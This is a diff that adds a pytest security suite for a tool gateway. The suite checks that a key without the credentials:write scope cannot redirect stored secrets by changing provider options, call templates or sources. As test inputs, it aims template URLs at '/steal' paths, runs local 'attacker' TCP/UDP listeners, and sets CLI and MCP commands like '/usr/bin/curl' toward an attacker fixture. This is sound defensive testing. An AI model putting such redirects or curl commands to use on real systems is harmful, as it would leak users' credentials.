@@ -1,0 +1,491 @@
+"""Every field that a registrar may send is classified by what it does to credentials, and is tried by a key
+without `credentials:write`: a new field that stands in no table fails here.
+
+owner      only a key with `credentials:write` may send it; tried, and denied
+moves      it names an address on a provider that is there; tried, and no stored secret ever arrives there
+registers  it belongs to the registration of a provider, whose name is not taken yet: nothing is stored for it
+nested     a model with a row of its own
+harmless   it moves neither a credential nor the trust over which one travels
+"""
+
+import asyncio
+import contextlib
+from dataclasses import dataclass, field
+from typing import get_args
+
+import pytest
+
+from app.access.schemas import KeyCreate
+from app.providers import credential_inputs, exported, exports, inputs, reach
+from app.providers.credential_inputs import CredentialInput
+from app.schemas import Closed, RateInput
+from app.tools.schemas import ToolPatch
+from app.utcp.auth import ApiKeyAuth, BasicAuth, OAuth2Auth
+from app.utcp.templates import MODELS
+from app.utcp.templates.http import BodySpec, EncodingSpec, ParameterSpec
+from app.utcp.templates.local import CliCommand
+from app.utcp.templates.mcp import McpConfig, McpServer
+from tests.harness.certificates import certificate
+
+from .documents import manual, openapi, tool
+
+CANARY = "canary-of-the-owner-9"
+WRITER = ("providers:read", "providers:write", "tools:read", "tools:call")
+KINDS = ("owner", "moves", "registers", "nested", "harmless")
+
+TEMPLATE = {"owner": "auth", "harmless": "name call_template_type allowed_communication_protocols"}
+OVER_URL = {"owner": "auth headers", "moves": "url"}
+HTTP_FIELDS = "header_fields http_method content_type body_field"
+LOCAL_DOCUMENT = {"owner": "auth auth_tools", "harmless": "base_url"}
+
+FIELDS = {
+    inputs.ProviderPatch: {"nested": "limits options", "harmless": "description tags enabled"},
+    inputs.OptionsInput: {
+        "owner": " ".join(reach.CREDENTIALS_WRITE_OPTIONS),
+        "moves": " ".join(reach.DESTINATION_OPTIONS),
+        "harmless": " ".join(reach.HARMLESS_OPTIONS),
+    },
+    inputs.LimitsInput: {
+        "nested": "rate cache",
+        "harmless": "connect first_byte idle total response_bytes concurrency breaker_failures attempts "
+        "retry_idempotent idempotency_header stream",
+    },
+    inputs.CacheInput: {"harmless": "seconds assumed stale_if_error tools"},
+    RateInput: {"harmless": "requests per_seconds burst"},
+    inputs.VariableInput: {"owner": "value secret"},
+    inputs.Described: {
+        "owner": "credentials variables", "nested": "limits options", "harmless": "description tags",
+    },
+    inputs.CanonicalRegistration: {
+        "owner": "credentials variables", "nested": "limits options source",
+        "registers": "name", "harmless": "description tags",
+    },
+    inputs.ReadingInput: {"registers": "root overlay"},
+    inputs.SourceInput: {
+        "owner": "headers auth auth_tools",
+        "registers": "url document manual call_template root overlay follow_references",
+    },
+    inputs.HandToolInput: {
+        "owner": "variables", "nested": "call_template",
+        "harmless": "provider name description inputs outputs tags",
+    },
+    ToolPatch: {"harmless": "description tags enabled"},
+    exports.ExportDocument: {"nested": "providers", "harmless": "format"},
+    exports.ExportedProvider: {
+        "nested": "limits options tools slots overrides",
+        "registers": "name url media_type document document_base64 root overlay follow_references "
+        "call_template",
+        "harmless": "title description tags enabled variables",
+    },
+    exports.OverrideForm: {"harmless": "description tags enabled"},
+    exported.ToolForm: {
+        "nested": "security", "registers": "call_template",
+        "harmless": "source_key name description inputs outputs tags hand_made",
+    },
+    exported.NeedForm: {"registers": "slot scopes"},
+    exported.SlotForm: {
+        "nested": "values",
+        "registers": "slot kind scheme location name token_url scopes description fallback",
+    },
+    exported.PlaceForm: {"registers": "location name"},
+    credential_inputs.ApiKeyInput: {"owner": "kind value location name allowed_origins"},
+    credential_inputs.BasicInput: {"owner": "kind username password allowed_origins"},
+    credential_inputs.BearerInput: {"owner": "kind token allowed_origins"},
+    credential_inputs.OAuth2Input: {
+        "owner": "kind client_id client_secret token_url scope audience resource allowed_origins "
+        "token_endpoint_auth_method",
+    },
+    credential_inputs.StaticInput: {"nested": "values", "owner": "kind allowed_origins"},
+    credential_inputs.StaticValue: {"owner": "location name value"},
+    credential_inputs._CredentialInput: {"owner": "allowed_origins"},
+    KeyCreate: {"harmless": "name scopes providers tags expires_at rate_limit"},
+    MODELS["http"]: {
+        **OVER_URL, "owner": "auth headers auth_tools", "nested": "parameters body",
+        "harmless": f"{TEMPLATE['harmless']} {HTTP_FIELDS} gateways",
+    },
+    MODELS["sse"]: {
+        **OVER_URL,
+        "harmless": f"{TEMPLATE['harmless']} header_fields event_type reconnect retry_timeout body_field",
+    },
+    MODELS["streamable_http"]: {
+        **OVER_URL, "harmless": f"{TEMPLATE['harmless']} {HTTP_FIELDS} chunk_size timeout",
+    },
+    MODELS["graphql"]: {
+        **OVER_URL,
+        "harmless": f"{TEMPLATE['harmless']} header_fields operation_type operation_name query "
+        "variable_types",
+    },
+    MODELS["websocket"]: {
+        **OVER_URL,
+        "harmless": f"{TEMPLATE['harmless']} header_fields protocol keep_alive message response_format "
+        "timeout responses",
+    },
+    MODELS["grpc"]: {
+        "owner": "auth headers", "moves": "host port use_ssl",
+        "harmless": f"{TEMPLATE['harmless']} service_name method_name descriptors",
+    },
+    MODELS["webrtc"]: {
+        # The peer gets the arguments; credentials go to the signalling server.
+        "owner": "auth headers", "moves": "signaling_server",
+        "harmless": f"{TEMPLATE['harmless']} peer_id data_channel_name timeout tool_name",
+    },
+    MODELS["tcp"]: {
+        "owner": "auth", "moves": "host port",
+        "harmless": f"{TEMPLATE['harmless']} request_data_format request_data_template "
+        "response_byte_format timeout framing_strategy length_prefix_bytes length_prefix_endian "
+        "message_delimiter interpret_escape_sequences fixed_message_length max_response_size",
+    },
+    MODELS["udp"]: {
+        "owner": "auth", "moves": "host port",
+        "harmless": f"{TEMPLATE['harmless']} request_data_format request_data_template "
+        "response_byte_format timeout number_of_response_datagrams",
+    },
+    MODELS["mcp"]: {
+        "owner": "auth", "nested": "config",
+        "harmless": f"{TEMPLATE['harmless']} register_resources_as_tools tool_name resource_uri",
+    },
+    MODELS["cli"]: {
+        "owner": "auth env_vars", "moves": "command_name", "nested": "commands",
+        "harmless": f"{TEMPLATE['harmless']} inherit_env_vars working_dir",
+    },
+    MODELS["text"]: {**LOCAL_DOCUMENT, "harmless": f"{TEMPLATE['harmless']} base_url content"},
+    MODELS["file"]: {**LOCAL_DOCUMENT, "harmless": f"{TEMPLATE['harmless']} base_url file_path"},
+    ParameterSpec: {
+        "harmless": "input name location style explode allow_reserved content_type required",
+    },
+    BodySpec: {"nested": "encoding", "harmless": "input content_type required"},
+    EncodingSpec: {"harmless": "content_type style explode allow_reserved text"},
+    McpConfig: {"nested": "servers"},
+    McpServer: {
+        "owner": "env headers query", "moves": "url command",
+        "harmless": "transport args cwd timeout sse_read_timeout terminate_on_close",
+    },
+    CliCommand: {"moves": "command", "harmless": "append_to_final_output"},
+    ApiKeyAuth: {"owner": "auth_type api_key var_name location"},
+    BasicAuth: {"owner": "auth_type username password"},
+    OAuth2Auth: {"owner": "auth_type token_url client_id client_secret scope audience resource"},
+}  # fmt: skip
+
+
+def fields_of(model, *kinds):
+    return [name for kind in kinds or KINDS for name in FIELDS[model].get(kind, "").split()]
+
+
+def inputs_of(model):
+    """The models of request bodies that inherit from this one."""
+    found = {model} if model.__module__.startswith("app.") else set()
+    return found.union(*(inputs_of(one) for one in model.__subclasses__()))
+
+
+def test_every_model_that_a_registrar_sends_is_classified():
+    assert inputs_of(Closed) - {Closed} <= FIELDS.keys()
+    assert {*MODELS.values(), *get_args(get_args(CredentialInput)[0])} <= FIELDS.keys()
+
+
+@pytest.mark.parametrize("model", FIELDS, ids=lambda model: model.__name__)
+def test_every_field_is_classified_once(model):
+    assert FIELDS[model].keys() <= set(KINDS)
+    assert sorted(fields_of(model)) == sorted(model.model_fields)
+
+
+AUTHORITY = certificate("127.0.0.9")
+PAIR = certificate("127.0.0.1", issuer=AUTHORITY)
+VALUES = {
+    "proxy_url": "http://127.0.0.1:9",
+    "proxy_resolves": True,
+    "ca_bundle": AUTHORITY[0],
+    "client_certificate": PAIR[0],
+    "client_key": PAIR[1],
+}
+
+
+def another(name):
+    """A value of the option that is not what holds without it."""
+    default = reach.CREDENTIALS_WRITE_OPTIONS[name]
+    return VALUES.get(name, not default)
+
+
+@pytest.fixture
+async def writer(gateway_app):
+    return await gateway_app.client(*WRITER)
+
+
+@pytest.fixture
+async def owned(admin, upstream):
+    """A provider with credentials for its own tools and for those that are written by hand."""
+    upstream.pages["/openapi.json"] = openapi(upstream.url)
+    source = {"url": f"{upstream.url}/openapi.json"}
+    made = await admin.post("/providers", json={"name": "pets", "source": source})
+    assert made.status_code == 201, made.text
+    body = {"provider": "pets", "name": "own", "call_template": {"url": f"{upstream.url}/own"}}
+    assert (await admin.post("/tools", json=body)).status_code == 201
+    await rotate(admin)
+    return admin
+
+
+async def rotate(owner):
+    for slot in ("key", "default"):
+        body = {"kind": "api_key", "value": CANARY, "name": "X-Key", "location": "header"}
+        stored = await owner.put(f"/providers/pets/credentials/{slot}", json=body)
+        assert stored.status_code in (200, 201), stored.text
+
+
+def denied(response, *pointers):
+    assert response.status_code == 403, response.text
+    assert response.json()["missing_scopes"] == ["credentials:write"]
+    assert [error["pointer"] for error in response.json().get("errors", ())][: len(pointers)] == [*pointers]
+
+
+async def test_options_that_take_the_scope_are_denied_wherever_they_stand(owned, writer, upstream):
+    for name in fields_of(inputs.OptionsInput, "owner"):
+        options = {name: another(name)}
+        secret = name in ("proxy_url", "client_key")
+        told = () if secret else (f"/options/{name}",)
+        denied(await writer.patch("/providers/pets", json={"options": options}), *told)
+        for path in ("/providers", "/providers/preview"):
+            body = {"name": "new", "source": {"document": openapi(upstream.url)}, "options": options}
+            denied(await writer.post(path, json=body), *told)
+            assert (await writer.post(path, json=[body])).json()["entries"][0]["status"] == 403
+        if not secret:
+            entry = {"name": "new", "document": "{}", "options": options}
+            back = await writer.post("/import", json={"format": exports.FORMAT, "providers": [entry]})
+            assert back.json()["entries"][0]["status"] == 403, back.text
+    assert (await owned.get("/providers/new")).status_code == 404
+    assert (await owned.get("/providers/pets")).json()["options"] == {}
+
+
+async def test_what_the_owner_set_is_taken_back_by_nobody_else(owned, writer):
+    names = [name for name in fields_of(inputs.OptionsInput, "owner") if name != "proxy_url"]
+    options = {name: another(name) for name in names}
+    assert (await owned.patch("/providers/pets", json={"options": options})).status_code == 200
+    for name in names:
+        told = () if name == "client_key" else (f"/options/{name}",)
+        denied(await writer.patch("/providers/pets", json={"options": {name: None}}), *told)
+        if told:
+            same = await writer.patch("/providers/pets", json={"options": {name: options[name]}})
+            assert same.status_code == 200, same.text
+
+
+async def test_an_option_in_no_table_takes_the_scope(gateway_app):
+    with pytest.raises(reach.Forbidden):
+        reach.Reach(seals=False, shared=True).permit_options({"brand_new": 1}, at="/options")
+
+
+async def test_harmless_changes_lead_no_secret_away(owned, writer, upstream, elsewhere):
+    limits = {
+        "connect": 5, "first_byte": 5, "idle": 5, "total": 9, "response_bytes": 9_999, "concurrency": 9,
+        "breaker_failures": 0, "attempts": 1, "retry_idempotent": True, "idempotency_header": "Idempotency-Key",
+        "stream": 9, "rate": {"requests": 99, "per_seconds": 1}, "cache": {"seconds": 1},
+    }  # fmt: skip
+    assert sorted(limits) == sorted(inputs.LimitsInput.model_fields)
+    options = dict.fromkeys(fields_of(inputs.OptionsInput, "harmless"), True)
+    patch = {
+        "limits": limits,
+        "options": options,
+        "description": elsewhere.url,
+        "tags": ["t"],
+        "enabled": True,
+    }
+    assert (await writer.patch("/providers/pets", json=patch)).status_code == 200
+    changed = {"description": elsewhere.url, "tags": ["t"], "enabled": True}
+    assert (await writer.patch("/tools/pets.own", json=changed)).status_code == 200
+    await rotate(owned)
+    assert (await writer.post("/tools/pets.own/call", json={})).status_code == 200
+    direct = await writer.get("/utcp?mode=direct")
+    assert CANARY not in direct.text
+    assert elsewhere.seen == []
+
+
+@pytest.mark.parametrize("field_name", fields_of(inputs.OptionsInput, "moves"))
+async def test_options_that_name_a_destination_are_denied_where_secrets_are(
+    owned, writer, field_name, elsewhere
+):
+    patch = {"options": {field_name: elsewhere.url}}
+    denied(await writer.patch("/providers/pets", json=patch), f"/options/{field_name}")
+
+
+async def test_secrets_of_templates_are_the_owners(owned, writer, upstream):
+    key = {"auth_type": "api_key", "api_key": "mine"}
+    urls = {"url": upstream.url, "signaling_server": upstream.url}
+    for protocol, model in MODELS.items():
+        for name in fields_of(model, "owner"):
+            secret = {"X-Any": "mine"} if name in ("headers", "env_vars") else key
+            if name == "auth_tools":
+                template = {
+                    "call_template_type": protocol,
+                    "url": upstream.url,
+                    "content": "{}",
+                    "file_path": "/x",
+                }
+                template[name] = secret
+                made = await writer.post(
+                    "/providers", json={"name": "n", "source": {"call_template": template}}
+                )
+            else:
+                where = "ws" + upstream.url[4:] if protocol == "websocket" else upstream.url
+                template = {**SAMPLES[protocol], **urls, "url": where, name: secret}
+                if protocol == "mcp":
+                    template["config"] = {"mcpServers": {"s": {"url": upstream.url}}}
+                made = await writer.post(
+                    "/tools", json={"provider": "pets", "name": "t", "call_template": template}
+                )
+            # Protocols of this machine are closed to everybody here.
+            assert made.status_code in ((422, 403) if model in LOCAL else (403,)), (protocol, name, made.text)
+    for name in fields_of(McpServer, "owner"):
+        server = {"url": upstream.url, name: {"X": "mine"}}
+        template = {"call_template_type": "mcp", "config": {"mcpServers": {"s": server}}, "tool_name": "t"}
+        body = {"provider": "pets", "name": "t", "call_template": template}
+        assert (await writer.post("/tools", json=body)).status_code == 403, name
+    for name in fields_of(inputs.SourceInput, "owner"):
+        secret = {"X-Any": "mine"} if name == "headers" else key
+        source = {"url": f"{upstream.url}/openapi.json", name: secret}
+        denied(await writer.post("/providers", json={"name": "n", "source": source}))
+    for name, value in (
+        ("variables", {"A": {"value": "x"}}),
+        ("credentials", {"key": {"kind": "bearer", "token": "t"}}),
+    ):
+        body = {"name": "n", "source": {"document": openapi(upstream.url)}, name: value}
+        denied(await writer.post("/providers", json=body))
+    body = {
+        "provider": "pets",
+        "name": "t",
+        "call_template": {"url": upstream.url},
+        "variables": {"A": {"value": "x"}},
+    }
+    denied(await writer.post("/tools", json=body))
+    for path in ("/variables/A", "/providers/pets/variables/A", "/providers/pets/credentials/key"):
+        denied(await writer.put(path, json={"value": "x", "kind": "api_key"}))
+        denied(await writer.delete(path))
+
+
+@dataclass
+class Listener:
+    """An attacker's sockets: HTTP's own upstream aside, whatever arrives by TCP or UDP."""
+
+    port: int = 0
+    seen: bytearray = field(default_factory=bytearray)
+
+
+@contextlib.asynccontextmanager
+async def listening():
+    """On one port of both."""
+    found = Listener()
+
+    async def take(reader, writer_):
+        with contextlib.suppress(ConnectionError, TimeoutError):
+            async with asyncio.timeout(0.5):
+                while piece := await reader.read(65_536):
+                    found.seen += piece
+        writer_.close()
+
+    class Datagrams(asyncio.DatagramProtocol):
+        def datagram_received(self, data, addr):
+            found.seen.extend(data)
+
+    server = await asyncio.start_server(take, "127.0.0.1", 0)
+    found.port = server.sockets[0].getsockname()[1]
+    loop = asyncio.get_running_loop()
+    transport, _ = await loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", found.port))
+    try:
+        yield found
+    finally:
+        transport.close()
+        server.close()
+
+
+# What makes a template of each protocol whole; `moves` fields are set to the attacker's address.
+SAMPLES = {
+    "http": {},
+    "sse": {},
+    "streamable_http": {},
+    "graphql": {"query": "{ a }", "operation_type": "query"},
+    "websocket": {},
+    "grpc": {"host": "127.0.0.1", "port": 9, "service_name": "s.S", "method_name": "M"},
+    "tcp": {"host": "127.0.0.1", "port": 9, "timeout": 300},
+    "udp": {"host": "127.0.0.1", "port": 9, "timeout": 300},
+    "webrtc": {"peer_id": "p", "timeout": 500},
+    "mcp": {"tool_name": "t"},
+    "cli": {"command_name": "/bin/true"},
+    "text": {"content": "x"},
+    "file": {"file_path": "/x"},
+}
+SAMPLES = {protocol: {"call_template_type": protocol, **more} for protocol, more in SAMPLES.items()}
+LOCAL = {MODELS[protocol] for protocol in ("cli", "text", "file")}
+
+
+def moved(protocol, model, elsewhere, listener):
+    """A template with each field that moves a destination set to the attacker's, one or all that go together."""
+    http = {"url": f"{elsewhere.url}/steal"}
+    if protocol == "websocket":
+        http = {"url": f"ws{elsewhere.url[4:]}/steal"}
+    places = {
+        "url": http,
+        "signaling_server": {"signaling_server": f"{elsewhere.url}/steal"},
+        "host": {"host": "127.0.0.1", "port": listener.port},
+        "port": {"host": "127.0.0.1", "port": listener.port},
+        "use_ssl": {"host": "127.0.0.1", "port": listener.port, "use_ssl": True},
+        "command_name": {"command_name": f"/usr/bin/curl {elsewhere.url}"},
+    }
+    for name in fields_of(model, "moves"):
+        yield {**SAMPLES[protocol], **places[name]}
+    if protocol == "mcp":
+        for name in fields_of(McpServer, "moves"):
+            server = http if name == "url" else {"command": "/usr/bin/curl", "args": [elsewhere.url]}
+            yield {**SAMPLES[protocol], "config": {"mcpServers": {"s": server}}}
+    if protocol == "cli":
+        for name in fields_of(CliCommand, "moves"):
+            step = {name: f"/usr/bin/curl {elsewhere.url}"}
+            yield {"call_template_type": "cli", "commands": [step]}
+
+
+@pytest.mark.parametrize("protocol", MODELS)
+async def test_a_tool_at_another_address_gets_no_secret(owned, writer, upstream, elsewhere, protocol):
+    async with listening() as listener:
+        stored = 0
+        for number, template in enumerate(moved(protocol, MODELS[protocol], elsewhere, listener)):
+            body = {"provider": "pets", "name": f"t{number}", "call_template": template}
+            made = await writer.post("/tools", json=body)
+            assert made.status_code in (201, 403, 422), made.text
+            stored += made.status_code == 201
+        assert stored or MODELS[protocol] in LOCAL
+        await rotate(owned)
+        listed = (await owned.get("/tools?provider=pets&limit=100")).json()["items"]
+        assert len(listed) == stored + 2
+        for one in listed:
+            await owned.post(f"/tools/{one['name']}/call", json={})
+        for site in (elsewhere, listener):
+            seen = bytes(site.seen) if isinstance(site, Listener) else repr(site.seen).encode()
+            assert CANARY.encode() not in seen
+        assert CANARY in repr(upstream.seen)
+
+
+async def test_a_source_that_moves_takes_no_secret_along(owned, writer, upstream, elsewhere):
+    """Of a refresh by a key without the scope, nothing that moves is put to use."""
+    upstream.pages["/openapi.json"] = openapi(elsewhere.url, paths=("/pets", "/more"))
+    refreshed = await writer.post("/providers/pets/refresh")
+    assert sorted(refreshed.json()["difference"]["held"]) == ["GET /more", "GET /pets"]
+    denied(await writer.post("/providers/pets/approve"))
+    await rotate(owned)
+    assert (await owned.post("/tools/pets.listPets/call", json={})).status_code == 200
+    assert (await owned.post("/providers/pets/approve")).status_code == 200
+    await rotate(owned)
+    assert (await owned.post("/tools/pets.listPets/call", json={})).status_code == 403
+    assert elsewhere.seen == []
+
+
+async def test_a_registration_takes_no_name_that_is_there(owned, writer, elsewhere):
+    key = {"call_template_type": "http", "name": "pets", "url": elsewhere.url}
+    entry = {
+        "name": "pets",
+        "tools": [],
+        "call_template": {"call_template_type": "http", "url": elsewhere.url},
+    }
+    for path, body in (
+        ("/providers", {"name": "pets", "source": {"url": elsewhere.url}}),
+        ("/providers", {"name": "pets", "source": {"manual": manual(tool("a", elsewhere.url))}}),
+        ("/providers", key),
+        ("/providers?name=pets", openapi(elsewhere.url)),
+    ):
+        assert (await writer.post(path, json=body)).status_code == 409
+    imported = await writer.post("/import", json={"format": exports.FORMAT, "providers": [entry]})
+    assert [one["status"] for one in imported.json()["entries"]] == [409]
